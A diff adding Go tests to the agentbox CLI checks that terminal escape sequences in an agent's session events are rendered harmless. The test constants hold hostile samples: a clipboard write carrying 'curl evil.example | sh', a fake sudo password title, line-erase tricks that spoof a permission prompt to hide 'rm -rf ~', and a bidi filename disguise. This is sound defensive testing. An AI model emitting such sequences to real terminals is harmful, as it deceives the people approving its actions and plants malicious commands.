@@ -1,0 +1,304 @@
+package cli
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"reflect"
+	"strings"
+	"testing"
+	"unicode/utf8"
+
+	"github.com/agentbox/agentbox/event"
+	"github.com/agentbox/agentbox/internal/cli/fakeapi"
+)
+
+// Control sequences a hostile agent or command writes to take over the
+// terminal of whoever watches the session.
+const (
+	seqClipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07" // OSC 52: set the clipboard
+	seqTitle     = "\x1b]0;sudo password:\x07"                      // OSC 0: window title
+	seqCursor    = "\x1b[1A\x1b[999D"                               // up a line, to column 1
+	seqErase     = "\x1b[2K\r"                                      // erase the line, back to its start
+	seqC1CSI     = "\u009b2J"                                       // 8-bit CSI: clear the screen
+	seqBidi      = "\u202etxt.exe"                                  // right-to-left override
+	seqMisc      = "\x00\x7f\x08\x1bc"                              // NUL, DEL, backspace, full reset
+)
+
+// hostile is every sequence at once, with visible text around them.
+const hostile = "ok " + seqClipboard + seqTitle + seqCursor + seqErase + "✓ allowed by user" + seqC1CSI + seqBidi + seqMisc + " end"
+
+// hostileEvents puts the sequences in every place a session's text reaches
+// the screen: agent text (streamed and whole, reasoning), command names and
+// output (streamed and whole), tool names, inputs and output, file names and
+// diffs, plans, web searches, permission titles and details, questions,
+// violations, errors, turn and session messages.
+func hostileEvents() []event.Event {
+	s := &script{}
+	s.add(&event.SessionStarted{Agent: "mock", Model: "m" + seqTitle, Cwd: "/w/" + seqClipboard})
+	s.turn = "turn_1"
+	s.add(&event.TurnStarted{TurnID: "turn_1"})
+	s.add(&event.ItemStarted{Item: event.Item{ID: "m1", Kind: event.ItemMessage, Status: event.StatusInProgress, Role: event.RoleAssistant}})
+	// A sequence split across deltas must not survive either.
+	s.add(&event.ItemDelta{ItemID: "m1", Field: event.DeltaText, Delta: "text \x1b"})
+	s.add(&event.ItemDelta{ItemID: "m1", Field: event.DeltaText, Delta: "]52;c;aGk=\x07 " + hostile + "\n"})
+	s.add(&event.ItemCompleted{Item: event.Item{ID: "m1", Kind: event.ItemMessage, Status: event.StatusCompleted, Role: event.RoleAssistant}})
+	s.add(&event.ItemCompleted{Item: event.Item{ID: "m2", Kind: event.ItemMessage, Status: event.StatusCompleted, Role: event.RoleAssistant,
+		Content: []event.ContentPart{event.TextPart("whole " + hostile)}}})
+	s.add(&event.ItemCompleted{Item: event.Item{ID: "r1", Kind: event.ItemReasoning, Status: event.StatusCompleted,
+		Content: []event.ContentPart{event.TextPart("thinking " + seqCursor + seqErase)}}})
+	s.add(&event.ItemStarted{Item: event.Item{ID: "c1", Kind: event.ItemCommand, Status: event.StatusInProgress, Command: "ls " + seqTitle}})
+	s.add(&event.ItemDelta{ItemID: "c1", Field: event.DeltaOutput, Delta: "out " + hostile + "\n"})
+	s.add(&event.ItemCompleted{Item: event.Item{ID: "c1", Kind: event.ItemCommand, Status: event.StatusCompleted, Command: "ls", ExitCode: exit(0)}})
+	s.add(&event.ItemCompleted{Item: event.Item{ID: "c2", Kind: event.ItemCommand, Status: event.StatusFailed, Argv: []string{"sh", "-c", seqC1CSI},
+		Output: "whole output " + hostile + "\r\nnext line\n", ExitCode: exit(1)}})
+	s.add(&event.ItemCompleted{Item: event.Item{ID: "t1", Kind: event.ItemToolCall, Status: event.StatusFailed, Name: "Read" + seqErase,
+		Input: json.RawMessage(`{"file_path":"` + seqC1CSI + seqBidi + `\u001b[2J"}`), Output: "tool " + hostile, Error: "failed " + seqTitle}})
+	s.add(&event.ItemCompleted{Item: event.Item{ID: "f1", Kind: event.ItemFileChange, Status: event.StatusCompleted, Changes: []event.FileChange{
+		{Path: "evil" + seqClipboard + ".go", Kind: event.FileAdd, Diff: "+++ b/evil.go\n+" + hostile + "\n"},
+		{Path: "gpj" + seqBidi, Kind: event.FileDelete},
+	}}})
+	s.add(&event.ItemCompleted{Item: event.Item{ID: "p1", Kind: event.ItemPlan, Status: event.StatusCompleted, Entries: []event.PlanEntry{
+		{Content: "step " + seqCursor, Status: "completed"},
+	}}})
+	s.add(&event.ItemCompleted{Item: event.Item{ID: "w1", Kind: event.ItemWebSearch, Status: event.StatusCompleted, Query: "q" + seqTitle}})
+	s.add(&event.PermissionRequested{ID: "perm_1", Kind: event.PermCommand, Title: "Run ls" + seqErase + "Run rm -rf ~", Detail: "detail " + hostile,
+		Host: "h" + seqC1CSI, Port: 443})
+	s.add(&event.PermissionResolved{ID: "perm_1", Decision: event.DecisionDeny, By: event.ByUser, Message: "no " + seqCursor})
+	s.add(&event.QuestionRequested{ID: "q1", Prompt: "Which?" + seqClipboard, Options: []event.QuestionOption{{ID: "a", Label: "a" + seqBidi}}})
+	s.add(&event.QuestionResolved{ID: "q1", Answer: "x" + seqMisc, By: event.ByUser})
+	s.add(&event.SandboxViolation{Kind: event.ViolationFilesystem, Action: event.ActionBlocked, Detail: "write " + seqErase, Path: "/etc/" + seqC1CSI})
+	s.add(&event.Error{Code: "c" + seqTitle, Message: "error " + hostile})
+	s.add(&event.Native{NativeType: "n" + seqClipboard})
+	s.add(&event.TurnCompleted{TurnID: "turn_1", StopReason: event.StopError, Message: "stop " + seqCursor, DurationMS: 1})
+	s.turn = ""
+	s.add(&event.SessionEnded{Reason: event.EndError, Message: "ended " + seqErase, StderrTail: "tail " + hostile})
+	return s.evs
+}
+
+// ownStyles are the only control sequences the renderer may write.
+var ownStyles = []string{styleReset, styleBold, styleDim, styleRed, styleGreen, styleYellow, styleCyan}
+
+// checkInert fails when out holds a character that steers a terminal other
+// than the renderer's own colour codes.
+func checkInert(t *testing.T, what, out string) {
+	t.Helper()
+	for _, st := range ownStyles {
+		out = strings.ReplaceAll(out, st, "")
+	}
+	for i, r := range out {
+		if r == utf8.RuneError || r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || isC1(r) || isBidiControl(r) {
+			t.Errorf("%s: %U reaches the terminal at byte %d: %q", what, r, i, out[max(0, i-20):min(len(out), i+20)])
+			return
+		}
+	}
+}
+
+func TestRenderHostileGolden(t *testing.T) {
+	t.Parallel()
+	for _, color := range []bool{false, true} {
+		var b bytes.Buffer
+		r := NewRenderer(&b, color)
+		for _, ev := range hostileEvents() {
+			r.Render(ev)
+		}
+		r.Flush()
+		if err := r.Err(); err != nil {
+			t.Fatal(err)
+		}
+		name := "render_hostile.golden"
+		if color {
+			name = "render_hostile_color.golden"
+		}
+		checkInert(t, name, b.String())
+		golden(t, name, b.Bytes())
+	}
+}
+
+func TestTermSafe(t *testing.T) {
+	t.Parallel()
+	tests := []struct{ in, want string }{
+		{"plain text, tabs\tand\nnewlines\n", "plain text, tabs\tand\nnewlines\n"},
+		{"unicode: héllo ✓ 日本", "unicode: héllo ✓ 日本"},
+		{seqClipboard, `\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`},
+		{seqTitle, `\x1b]0;sudo password:\x07`},
+		{seqCursor + seqErase, `\x1b[1A\x1b[999D\x1b[2K\x0d`},
+		{seqC1CSI, `\u009b2J`},
+		{"\u0085\u009d\u009f", `\u0085\u009d\u009f`},
+		{seqBidi, `\u202etxt.exe`},
+		{"\u2066\u2069\u200e\u061c", `\u2066\u2069\u200e\u061c`},
+		{seqMisc, `\x00\x7f\x08\x1bc`},
+		{"crlf\r\nline\r\n", "crlf\nline\n"},
+		{"bad \xff\x9b utf-8", `bad \xff\x9b utf-8`},
+		{"\ufffd stays", "\ufffd stays"},
+	}
+	for _, tt := range tests {
+		if got := termSafe(tt.in); got != tt.want {
+			t.Errorf("termSafe(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+// TestDecodeForTerminalEveryField fills every string of every payload type
+// with an escape sequence and checks that none is left after decoding for
+// the terminal: a field added to the schema later is covered without a
+// change here.
+func TestDecodeForTerminalEveryField(t *testing.T) {
+	t.Parallel()
+	for _, typ := range event.Types {
+		p := event.NewPayload(typ)
+		fillStrings(reflect.ValueOf(p), seqClipboard+seqC1CSI)
+		ev := event.New(event.SourceAgent, p)
+		ev.SessionID, ev.TurnID, ev.NativeSessionID = "ses"+seqTitle, "turn"+seqTitle, "n"+seqTitle
+		got, gp, err := decodeForTerminal(ev)
+		if err != nil {
+			t.Fatalf("%s: %v", typ, err)
+		}
+		var found []string
+		walkStrings(reflect.ValueOf(gp), func(s string) {
+			if strings.ContainsAny(s, "\x1b\u009b") {
+				found = append(found, s)
+			}
+		})
+		walkStrings(reflect.ValueOf(got), func(s string) {
+			if strings.ContainsAny(s, "\x1b\u009b") {
+				found = append(found, s)
+			}
+		})
+		if len(found) > 0 {
+			t.Errorf("%s: raw control sequences left: %q", typ, found)
+		}
+	}
+}
+
+// fillStrings sets every string (and JSON raw message) reachable from v to
+// s, creating one element in slices and allocating pointers.
+func fillStrings(v reflect.Value, s string) {
+	switch v.Kind() {
+	case reflect.Pointer:
+		if v.IsNil() {
+			v.Set(reflect.New(v.Type().Elem()))
+		}
+		fillStrings(v.Elem(), s)
+	case reflect.Struct:
+		for i := range v.NumField() {
+			if v.Type().Field(i).IsExported() {
+				fillStrings(v.Field(i), s)
+			}
+		}
+	case reflect.Slice:
+		if v.Type().Elem().Kind() == reflect.Uint8 {
+			b, _ := json.Marshal(s)
+			v.SetBytes(b)
+			return
+		}
+		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
+		fillStrings(v.Index(0), s)
+	case reflect.String:
+		v.SetString(s)
+	}
+}
+
+func walkStrings(v reflect.Value, f func(string)) {
+	switch v.Kind() {
+	case reflect.Pointer, reflect.Interface:
+		if !v.IsNil() {
+			walkStrings(v.Elem(), f)
+		}
+	case reflect.Struct:
+		for i := range v.NumField() {
+			if v.Type().Field(i).IsExported() {
+				walkStrings(v.Field(i), f)
+			}
+		}
+	case reflect.Slice, reflect.Array:
+		if v.Type().Elem().Kind() == reflect.Uint8 {
+			// JSON escapes ESC itself; only a raw C1 could survive there.
+			f(string(v.Bytes()))
+			return
+		}
+		for i := range v.Len() {
+			walkStrings(v.Index(i), f)
+		}
+	case reflect.String:
+		f(v.String())
+	}
+}
+
+// hostileScript asks a permission and a question whose texts carry
+// control sequences, then writes them in a command's output.
+func hostileScript(tn *fakeapi.Turn) {
+	tn.Permission(event.PermissionRequested{Kind: event.PermCommand, Title: "Run ls" + seqErase + seqCursor + "Run something else" + seqClipboard})
+	tn.Question(event.QuestionRequested{Prompt: "Pick" + seqTitle, Options: []event.QuestionOption{{ID: "a", Label: "one" + seqC1CSI}}})
+	tn.Emit(&event.ItemCompleted{Item: event.Item{ID: "c1", Kind: event.ItemCommand, Status: event.StatusCompleted, Command: "cat" + seqBidi,
+		Output: hostile + "\n", ExitCode: exit(0)}})
+	tn.Message = "done" + seqMisc
+}
+
+// TestRunHostile runs a session whose agent writes control sequences: the
+// rendered events on stdout and the prompts on stderr stay inert, with and
+// without colour.
+func TestRunHostile(t *testing.T) {
+	t.Parallel()
+	for _, terminal := range []bool{false, true} {
+		t.Run(fmt.Sprint("terminal=", terminal), func(t *testing.T) {
+			t.Parallel()
+			h := newHarness(t, fakeapi.Config{Script: hostileScript})
+			h.terminal = terminal
+			r := h.run(t.Context(), strings.NewReader("y\n1\n"), "run", "--agent", "mock", "go")
+			r.check(t, 0, []string{`Run ls\x1b[2K`, `\x1b]52;c;`}, []string{`Allow Run ls\x1b[2K\x0d\x1b[1A\x1b[999DRun something else\x1b]52;c;`, `1) one\u009b2J`})
+			checkInert(t, "stdout", r.stdout)
+			checkInert(t, "stderr", r.stderr)
+		})
+	}
+}
+
+// TestEventsJSONTerminal checks that JSON written to a terminal carries no
+// raw C1, DEL or bidi control (JSON already escapes C0) and still decodes
+// to the same events; to a pipe it is left as encoding/json writes it.
+func TestEventsJSONTerminal(t *testing.T) {
+	t.Parallel()
+	h := newHarness(t, fakeapi.Config{Script: hostileScript})
+	if r := h.run(t.Context(), strings.NewReader("y\n1\n"), "run", "--agent", "mock", "go"); r.code != 0 {
+		t.Fatalf("run: %+v", r)
+	}
+	h.terminal = false
+	piped := h.run(t.Context(), nil, "--json", "sessions", "events", "ses_0001")
+	h.terminal = true
+	tty := h.run(t.Context(), nil, "--json", "sessions", "events", "ses_0001")
+	if piped.code != 0 || tty.code != 0 {
+		t.Fatalf("events: %+v %+v", piped, tty)
+	}
+	if !strings.Contains(piped.stdout, "\u009b") {
+		t.Fatalf("the piped JSON lost its C1 character (the test no longer tests anything):\n%s", piped.stdout)
+	}
+	checkInert(t, "events --json on a terminal", tty.stdout)
+	pl, tl := strings.Split(piped.stdout, "\n"), strings.Split(tty.stdout, "\n")
+	if len(pl) != len(tl) {
+		t.Fatalf("%d lines piped, %d on a terminal", len(pl), len(tl))
+	}
+	for i := range pl {
+		if pl[i] == "" {
+			continue
+		}
+		var a, b event.Event
+		if err := json.Unmarshal([]byte(pl[i]), &a); err != nil {
+			t.Fatal(err)
+		}
+		if err := json.Unmarshal([]byte(tl[i]), &b); err != nil {
+			t.Fatalf("line %d is not JSON on a terminal: %v\n%s", i, err, tl[i])
+		}
+		if !bytes.Equal(a.Data, b.Data) && !jsonEqual(t, a.Data, b.Data) {
+			t.Errorf("line %d decodes differently:\n%s\n%s", i, a.Data, b.Data)
+		}
+	}
+}
+
+func jsonEqual(t *testing.T, a, b []byte) bool {
+	t.Helper()
+	var x, y any
+	if json.Unmarshal(a, &x) != nil || json.Unmarshal(b, &y) != nil {
+		return false
+	}
+	return reflect.DeepEqual(x, y)
+}
